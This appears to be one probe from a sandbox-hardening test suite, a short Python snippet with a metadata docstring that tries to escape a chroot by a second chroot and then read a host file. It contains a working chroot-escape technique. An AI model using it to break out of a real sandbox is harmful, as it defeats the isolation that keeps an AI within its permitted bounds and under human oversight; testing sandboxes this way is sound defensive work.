"""Leave the root by a second chroot, with the working directory outside it.

guarantee: no-host-files
layer: kernel
wins: reveals
outcome: harmless
needs: ctypes
control: root - chroot needs CAP_SYS_CHROOT
"""

call("chroot", TARGET["inbox"])
for _ in range(40):
    os.chdir("..")
call("chroot", ".")
fd = call("openat", -100, TARGET["file"], os.O_RDONLY)
print(os.read(fd, 200).decode())
